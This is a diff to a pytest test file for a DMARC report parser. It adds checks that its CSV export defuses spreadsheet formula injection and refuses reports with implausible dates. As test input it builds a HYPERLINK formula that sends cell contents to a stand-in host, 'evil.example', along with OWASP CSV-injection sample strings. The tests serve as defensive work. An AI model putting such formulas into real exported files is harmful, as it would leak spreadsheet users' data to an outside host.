@@ -6,14 +6,19 @@ import csv
 import io
 import json
 import os
+import re
 import subprocess
 import sys
+import time
 from pathlib import Path
 
 import pytest
 
+from analysis.serialize import spreadsheet_safe
 from function_app.cli import main
+from store import SqliteStore
 from tests.builders import aggregate_xml, gzipped, record_xml
+from tests.conftest import REFUSED_SAMPLES
 
 REPORT_KEYS = {"kind", "schema", "source", "reporter", "report_id", "begin", "end", "generator",
                "errors", "policy", "records"}
@@ -51,19 +56,96 @@ def test_parse_prints_the_json_contract(capsys: pytest.CaptureFixture[str],
 
 def test_parse_every_sample_one_line_each(capsys: pytest.CaptureFixture[str],
                                           samples: Path) -> None:
-    code, out, _ = run(capsys, "parse", str(samples))
+    code, out, err = run(capsys, "parse", str(samples))
     kinds = [json.loads(line)["kind"] for line in out.splitlines()]
-    assert code == 0
-    assert sorted(set(kinds)) == ["aggregate", "failure", "tls"] and len(kinds) == 17
+    assert sorted(set(kinds)) == ["aggregate", "failure", "tls"]
+    assert len(kinds) == 17 - len(REFUSED_SAMPLES)
+    assert code == 1  # the refused ones, each in one line naming its limit
+    lines = err.splitlines()
+    assert len(lines) == len(REFUSED_SAMPLES)
+    for name, limit in REFUSED_SAMPLES.items():
+        assert any(line.startswith(f"rejected: {samples / name}: ")
+                   and line.endswith(f"(limit {limit})") for line in lines), (name, lines)
 
 
 def test_parse_csv(capsys: pytest.CaptureFixture[str], samples: Path) -> None:
     code, out, err = run(capsys, "parse", "--format", "csv", str(samples))
     rows = list(csv.DictReader(io.StringIO(out)))
-    assert code == 0
-    assert len(rows) == 2286 + 1 + 1 + 1 + 1 + 1 + 1 + 20 * 3 + 1 + 1 + 1
+    assert code == 1  # RFC 9990's example, dated 1979, is refused (tests/conftest.py)
+    assert len(rows) == 2286 + 1 + 1 + 1 + 1 + 1 + 1 + 20 * 3 + 1 + 1
     assert {r["policy_domain"] for r in rows} >= {"example.com", "borschow.com"}
     assert "skipped (CSV holds aggregate records only)" in err
+
+
+#: What a spreadsheet reads as the start of a formula (OWASP "CSV Injection"): those that survive
+#: the reader (it strips leading tab, CR and LF; serialize's own test covers them) and the
+#: full-width forms.
+FORMULA_CHARS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
+def test_parse_csv_cells_never_start_a_formula(capsys: pytest.CaptureFixture[str],
+                                                tmp_path: Path) -> None:
+    """Every text a report holds is the sender's to choose; none may run in a spreadsheet."""
+    for i, c in enumerate(FORMULA_CHARS):
+        name = "@" if c == "=" else c  # a DKIM/SPF name holding "=" is skipped as no name
+        rid = "-" if c == "@" else c  # a report id ends at "@"
+        auth = (f"<dkim><domain>{name}d.example</domain><selector>{name}s1</selector>"
+                f"<result>pass</result></dkim><spf><domain>{name}spf.example</domain>"
+                "<result>pass</result></spf>")
+        record = record_xml("192.0.2.1", 3, header_from=f"{c}hf.example",
+                            envelope_from=f"{c}ef.example", envelope_to=f"{c}et.example",
+                            auth=auth, reasons=f"<reason><type>other</type><comment>{c}x"
+                                               "</comment></reason>")
+        (tmp_path / f"r{i}.xml").write_bytes(aggregate_xml(
+            record, org=f'{c}HYPERLINK("http://evil.example/?"&A1,"click")',
+            report_id=f"{rid}id;=1+2", domain=f"{c}example.com"))
+    code, out, err = run(capsys, "parse", "--format", "csv", str(tmp_path))
+    assert (code, err) == (0, "")
+    header, *rows = list(csv.reader(io.StringIO(out)))
+    assert len(rows) == len(FORMULA_CHARS)
+    dangerous = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+    for row in rows:
+        cells = dict(zip(header, row, strict=True))
+        for field, cell in cells.items():
+            assert not cell.startswith(dangerous), (field, cell)
+        c = cells["org_name"][1]
+        assert cells["org_name"] == f"'{c}HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+        assert (cells["policy_domain"], cells["header_from"], cells["envelope_from"],
+                cells["envelope_to"]) == (f"'{c}example.com", f"'{c}hf.example",
+                                          f"'{c}ef.example", f"'{c}et.example")
+        name, rid = "@" if c == "=" else c, "-" if c == "@" else c
+        assert cells["report_id"] == f"'{rid}id;=1+2"
+        assert (cells["dkim_domains"], cells["dkim_selectors"], cells["spf_domains"]) == (
+            f"'{name}d.example", f"'{name}s1", f"'{name}spf.example")
+        assert cells["count"] == "3" and cells["reasons"] == f"other:{c}x"
+    # Every text cell is quoted, so a ";" inside one cannot open a cell in a spreadsheet that
+    # splits on ";"; the count stays a bare number.
+    for line in out.splitlines()[1:]:
+        assert line.startswith(f'"{tmp_path}') and ',"192.0.2.1",3,"none",' in line
+        assert re.search(r',"\'.id;=1\+2",', line), line
+
+
+@pytest.mark.parametrize("value", ["=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
+                                   "\uff1d1", "\uff0b1", "\uff0d1", "\uff201"])
+def test_a_cell_starting_like_a_formula_gets_a_quote(value: str) -> None:
+    assert spreadsheet_safe(value) == "'" + value
+
+
+def test_other_cells_are_left_alone() -> None:
+    for value in ("example.com", "", "'=1", " =1", "1-2", 3, -5, None):
+        assert spreadsheet_safe(value) == value  # numbers stay numbers: no number is a formula
+
+
+@pytest.mark.parametrize(("value", "written"), [
+    # OWASP "CSV Injection"'s own examples, in the quoting `dmarcbot parse --format csv` uses.
+    ('=1+2";=1+2', '"\'=1+2"";=1+2"'),
+    ("=1+2'\" ;,=1+2", '"\'=1+2\'"" ;,=1+2"'),
+])
+def test_owasp_examples_are_written_as_owasp_shows(value: str, written: str) -> None:
+    out = io.StringIO()
+    csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC).writerow(
+        [spreadsheet_safe(value)])
+    assert out.getvalue() == written + "\n"
 
 
 def test_parse_rejection_is_one_line_and_exit_1(capsys: pytest.CaptureFixture[str],
@@ -94,6 +176,43 @@ def test_ingest_lines_and_exit_status(capsys: pytest.CaptureFixture[str],
         f"{good}: duplicate",
         f"rejected: {junk}: not a report: content is not XML, JSON, gzip, zip or e-mail",
     ]
+
+
+def test_ingest_refuses_reports_dated_out_of_reason(capsys: pytest.CaptureFixture[str],
+                                                    tmp_path: Path,
+                                                    monkeypatch: pytest.MonkeyPatch) -> None:
+    """A report dated 2099 would silence alerts until then; one from 2011 predates DMARC."""
+    db = tmp_path / "db.sqlite3"
+    future = tmp_path / "future.xml"
+    future.write_bytes(aggregate_xml(report_id="f", begin=4_070_908_800, end=4_070_995_199))
+    past = tmp_path / "past.xml.gz"
+    past.write_bytes(gzipped(aggregate_xml(report_id="p", begin=1_306_886_400,
+                                           end=1_306_972_799)))
+    for path, limit, detail in (
+        (future, "max_future_hours=24", "report ends 2099-01-01T23:59:59Z"),
+        (past, "earliest_report_year=2012", "report begins 2011-06-01T00:00:00Z"),
+    ):
+        code, out, err = run(capsys, "--db", str(db), "ingest", str(path))
+        assert code == 1 and err == ""
+        (line,) = out.splitlines()
+        assert line.startswith(f"rejected: {path}: {detail}"), line
+        assert line.endswith(f"(limit {limit})"), line
+    with SqliteStore(db) as store:
+        assert list(store.reports()) == [] and list(store.rollups()) == []
+
+    # A receiver whose clock runs a few hours ahead is believed.
+    now = int(time.time())
+    skewed = tmp_path / "skewed.xml"
+    skewed.write_bytes(aggregate_xml(report_id="s", begin=now - 21 * 3600, end=now + 3 * 3600))
+    code, out, _ = run(capsys, "--db", str(db), "ingest", str(skewed))
+    assert (code, out) == (0, f"{skewed}: stored\n")
+
+    # The future's allowance is a setting like the other limits.
+    monkeypatch.setenv("DMARCBOT_MAX_FUTURE_HOURS", str(100 * 365 * 24))
+    code, out, _ = run(capsys, "--db", str(db), "ingest", str(future))
+    assert (code, out) == (0, f"{future}: stored\n")
+    with SqliteStore(db) as store:
+        assert sorted(e.key.report_id for e in store.reports()) == ["f", "s"]
 
 
 def test_summary_text_and_json(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
